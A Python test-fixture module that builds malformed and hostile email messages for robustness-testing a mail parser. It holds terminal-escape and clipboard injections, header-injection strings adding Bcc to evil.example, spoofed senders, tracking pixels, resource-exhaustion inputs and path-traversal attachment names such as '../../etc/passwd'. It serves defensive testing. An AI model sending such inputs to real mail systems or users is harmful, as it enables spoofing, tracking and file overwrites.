"""Mails nobody should be hurt by: a name and the bytes."""

from __future__ import annotations

import base64

_ACTS = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\x\x1b[6n\x1bP$qm\x1b\\\x9b31m\x85\u2028\u202egpj.exe\u2066\x00\x0e\x08\x7f"
_FIELDS = (
    b"From: Kim <kim@home.example>\r\nTo: help@shop.example\r\nSubject: Hello\r\nMessage-ID: <one@home.example>\r\n"
)


def _word(text: str) -> bytes:
    return b"=?utf-8?B?" + base64.b64encode(text.encode()) + b"?="


def _mail(*fields: bytes, body: bytes = b"Hello\r\n") -> bytes:
    return _FIELDS + b"".join(field + b"\r\n" for field in fields) + b"\r\n" + body


def _multipart(*parts: bytes, kind: bytes = b"mixed") -> bytes:
    inner = b"".join(b"--zz\r\n" + part + b"\r\n" for part in parts)
    return _mail(b"Content-Type: multipart/" + kind + b"; boundary=zz", body=inner + b"--zz--\r\n")


def _nested(depth: int) -> bytes:
    head = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (number, number) for number in range(depth)
    )
    return _FIELDS + head + b"\r\nHello\r\n"


def _attached(name: bytes) -> bytes:
    return _multipart(
        b"Content-Type: text/plain\r\n\r\nHello",
        b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=" + name + b"\r\n\r\nx",
    )


_controls = _ACTS.encode()

HOSTILE: dict[str, bytes] = {
    "nothing": b"",
    "one byte": b"\xff",
    "only line ends": b"\r\n" * 500,
    "only a header": _FIELDS,
    "no header": b"Hello there.\n\nThis is it.\n",
    "zero bytes": b"\x00" * 2000,
    "all bytes": bytes(range(256)) * 40,
    "controls, raw": b"From: " + _controls + b" <kim@home.example>\nSubject: " + _controls + b"\n\n" + _controls,
    "controls, encoded words": _mail(b"X-A: 1")
    .replace(b"Hello\r\nM", _word(_ACTS) + b"\r\nM")
    .replace(b"Kim", _word(_ACTS)),
    "controls, quoted-printable": _mail(
        b"Content-Transfer-Encoding: quoted-printable",
        body=b"".join(b"=%02X" % byte for byte in _controls),
    ),
    "controls, base64": _mail(
        b"Content-Type: text/plain; charset=utf-8",
        b"Content-Transfer-Encoding: base64",
        body=base64.b64encode(_controls),
    ),
    "controls, entities": _mail(
        b"Content-Type: text/html",
        body=b"<p>&#27;[2J &#x9b;31m &#155; &#0; &#x202e;x &#8238; &NewLine;</p><a href='x&#27;]8;;'>y</a>",
    ),
    "controls, file name": _attached(b'"' + _controls.replace(b"\\", b"") + b'.txt"'),
    "controls, extended file name": _multipart(
        b"Content-Type: text/plain\r\n\r\nHello",
        b"Content-Type: image/png\r\n"
        b"Content-Disposition: attachment; filename*=utf-8''%1b%5d0%07%e2%80%aex.png\r\n\r\nx",
    ),
    "controls, message id": b"Message-ID: <a\x1b[2J@b>\nReferences: <x\x9b@y> <\x00@z>\nFrom: a@b.example\n\nHello",
    "line end in a decoded subject": _mail().replace(b"Hello\r\nM", b"=?utf-8?q?one=0D=0ABcc:_all@evil.example?=\r\nM"),
    "line end in a decoded name": _mail().replace(b"Kim", b"=?utf-8?q?Kim=0ATo:_x?="),
    "line end in a message id": b"Message-ID: <a@b\r\n Bcc: x@y>\r\n"
    b"In-Reply-To: <c\r\n d@e>\r\nFrom: a@b.example\r\n\r\nHello",
    "message id, empty": _mail().replace(b"<one@home.example>", b"<>"),
    "message id, open": _mail().replace(b"<one@home.example>", b"<["),
    "message id, open bracket": _mail().replace(b"<one@home.example>", b"<a@["),
    "message id, spaces": _mail().replace(b"<one@home.example>", b"< one @ home.example >"),
    "message id, endless": _mail().replace(b"<one@home.example>", b"<" + b"a" * 100_000 + b"@b>"),
    "from, open": _mail().replace(b"Kim <kim@home.example>", b"a@["),
    "from, odd quote": _mail().replace(b"Kim <kim@home.example>", "x ‹".encode()),
    "from, two fields": b"From: other@evil.example\r\n" + _mail(),
    "from, two addresses": _mail().replace(b"Kim <kim@home.example>", b"alice@a.example)bob@b.example"),
    "from, address as a name": _mail().replace(b"Kim <", b'"ceo@shop.example" <'),
    "from, comments": _mail().replace(b"Kim <kim@home.example>", b"(" * 900 + b"x" + b")" * 900 + b" kim@home.example"),
    "from, quotes": _mail().replace(b"Kim <kim@home.example>", b'"' * 30_001 + b" <kim@home.example>"),
    "from, escapes": _mail().replace(b"Kim <kim@home.example>", b'"\\' * 20_000),
    "from, groups": _mail().replace(b"Kim <kim@home.example>", b"a:" * 5_000 + b";" * 5_000),
    "to, ten thousand": _mail(b"Cc: " + b", ".join(b"u%d@many.example" % number for number in range(10_000))),
    "to, angle brackets": _mail(b"Cc: " + b"<" * 30_000),
    "date, absurd": _mail(b"Date: Fri, 99 Foo 99999 99:99:99 +9999"),
    "date, huge": _mail(b"Date: Mon, 1 Jan 999999999999 00:00:00 +0000"),
    "date, zone": _mail(b"Date: Mon, 1 Jan 2024 00:00:00 +99999999"),
    "date, endless": _mail(b"Date: " + b"1 " * 50_000),
    "subject, endless": _mail().replace(b"Hello\r\nM", b"x" * 1_000_000 + b"\r\nM"),
    "subject, encoded words": _mail().replace(b"Hello\r\nM", b"=?utf-8?q?" * 20_000 + b"\r\nM"),
    "subject, question marks": _mail().replace(b"Hello\r\nM", b"=?utf-8?q?" + b"?" * 60_000 + b"\r\nM"),
    "subject, unknown charset": _mail().replace(b"Hello\r\nM", b"=?x-nothing?b?/////w==?=\r\nM"),
    "subject, surrogates": _mail().replace(b"Hello\r\nM", b"=?utf-8?b?7aCA7bCA?= \xed\xa0\x80\r\nM"),
    "subject, marks": _mail().replace(b"Hello\r\nM", _word("Z" + "\u0301" * 60 + "algo") + b"\r\nM"),
    "subject, hidden": _mail().replace(b"Hello\r\nM", _word("pay\u200bpal\u2060\ufeff\U000e0041\U000e0042") + b"\r\nM"),
    "fields, two hundred thousand": b"".join(b"X-%d: y\r\n" % number for number in range(200_000)) + _mail(),
    "fields that are none, a hundred thousand": b"garbage\r\n" * 100_000 + _mail(),
    "field, folded without end": _mail(b"X-A: b" + b"\r\n c" * 200_000),
    "parameters, five thousand": _mail(b"Content-Type: text/plain; " + b"; ".join(b"p%d=x" % n for n in range(5_000))),
    "parameters, quotes": _mail(b"Content-Type: text/plain; name=" + b'"\\' * 30_000),
    "parameters, continued": _mail(b"Content-Type: text/plain; " + b"; ".join(b"name*%d=x" % n for n in range(5_000))),
    "line, one megabyte": _mail(body=b"x" * 1_000_000),
    "line, one megabyte of words": _mail(body=b"on 3 Mar 2026 a@b.example wrote: " * 30_000),
    "line, blanks": _mail(body=b" " * 1_000_000 + b"x"),
    "lines, colons": _mail(body=b"a@b.example 10:10:\n" * 40_000),
    "lines, labels": _mail(body=b"From: x\n" * 100_000),
    "lines, quotes": _mail(body=b"> " * 5_000 + b"\n" + b">\n" * 100_000),
    "lines, rules": _mail(body=(b"-" * 70 + b"\n") * 20_000),
    "depth, five thousand": _nested(5_000),
    "depth, messages": _FIELDS + b"Content-Type: message/rfc822\r\n\r\n" * 5_000,
    "parts, a hundred thousand": _multipart(*[b"\r\n\r\nx"] * 100_000),
    "parts, without blank lines": _mail(b"Content-Type: multipart/mixed; boundary=zz", body=b"--zz\r\n" * 100_000),
    "boundary missing": _mail(b"Content-Type: multipart/mixed", body=b"--zz\r\n\r\nHello\r\n--zz--"),
    "boundary empty": _mail(b'Content-Type: multipart/mixed; boundary=""', body=b"--\r\n\r\nHello\r\n----"),
    "boundary never used": _mail(b"Content-Type: multipart/mixed; boundary=zz", body=b"Hello"),
    "boundary with a bracket": _mail(
        b'Content-Type: multipart/mixed; boundary="(a+)+$["', body=b"--(a+)+$[\r\n\r\nHello"
    ),
    "type, none": _mail(b"Content-Type: ;;;;", body=b"Hello"),
    "type, group": _mail(b"Content-Type: text/;" + b";" * 50_000),
    "charset, unknown": _mail(b"Content-Type: text/plain; charset=klingon", body="Grüße".encode("latin-1")),
    "charset, utf-7": _mail(b"Content-Type: text/plain; charset=utf-7", body=b"+ADw-script+AD4-"),
    "charset, codec that is none": _mail(b"Content-Type: text/plain; charset=zlib_codec", body=b"x\x9c\x03"),
    "charset, escape": _mail(b"Content-Type: text/plain; charset=unicode_escape", body=b"\\u001b[2J"),
    "charset, lies": _mail(b"Content-Type: text/plain; charset=utf-8", body=b"\xc3\x28\xff\xfe"),
    "charset, open shift": _mail(b"Content-Type: text/plain; charset=iso-2022-jp", body=b"\x1b$B" + b"\x80" * 500),
    "base64, broken": _mail(b"Content-Transfer-Encoding: base64", body=b"SGVsbG8!*&^ =x"),
    "base64, one letter": _mail(b"Content-Transfer-Encoding: base64", body=b"S"),
    "uuencode, broken": _mail(b"Content-Transfer-Encoding: x-uuencode", body=b"begin 644 x\r\nM\x00\x01\xff\r\nend"),
    "encoding, unknown": _mail(b"Content-Transfer-Encoding: rot13"),
    "html, tracking": _mail(
        b"Content-Type: text/html",
        body=b"<style>@import 'http://evil.example/a'</style><img src='http://evil.example/p.gif' width=1>"
        b"<form action='http://evil.example'><input></form><iframe src='http://evil.example'></iframe>Hello",
    ),
    "html, deep": _mail(b"Content-Type: text/html", body=b"<div>" * 20_000 + b"Hello"),
    "html, tables": _mail(b"Content-Type: text/html", body=b"<table><tr><td>" * 5_000 + b"Hello"),
    "html, wide": _mail(b"Content-Type: text/html", body=b"<b>x</b>" * 100_000),
    "html, unclosed": _mail(b"Content-Type: text/html", body=b"<a <b <" * 50_000),
    "html, one attribute": _mail(b"Content-Type: text/html", body=b"<a href='" + b"x" * 900_000 + b"'>y</a>"),
    "html, comments": _mail(b"Content-Type: text/html", body=b"<!--" * 100_000),
    "html, encrypted beside it": _multipart(
        b"Content-Type: text/html\r\n\r\n<img src='http://evil.example/",
        b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\n\r\nsecret",
        b"Content-Type: text/html\r\n\r\n'>",
    ),
    "external body": _multipart(
        b'Content-Type: message/external-body; access-type=URL; URL="http://evil.example/x"\r\n\r\n\r\n',
    ),
    "delivery status, endless": _mail(
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="zz"',
        body=b"--zz\r\n\r\nx\r\n--zz\r\nContent-Type: message/delivery-status\r\n\r\n"
        + b"Final-Recipient: rfc822; a@b.example\r\nAction: failed\r\n\r\n" * 20_000
        + b"--zz--",
    ),
    "zip": _attached(b"bomb.zip"),
}

NAMES: tuple[bytes, ...] = (
    b'"../../etc/passwd"',
    b'"/etc/passwd"',
    b'"C:\\\\Windows\\\\x.exe"',
    b'"..\\\\..\\\\x"',
    b'"a\x00b.txt"',
    b'"-rf"',
    b'".bashrc"',
    b'"..."',
    b'""',
    b'"  "',
    b'"CON.txt"',
    b'"' + b"n" * 5_000 + b'.txt"',
    "\u202eexe.txt".encode(),
    b"=?utf-8?b?Li4vLi4vZXRjL3Bhc3N3ZA==?=",
    b'"~root"',
    b'"a:b|c?.txt"',
)


def attached(name: bytes) -> bytes:
    """Return a mail with one attachment of that name."""
    return _attached(name)
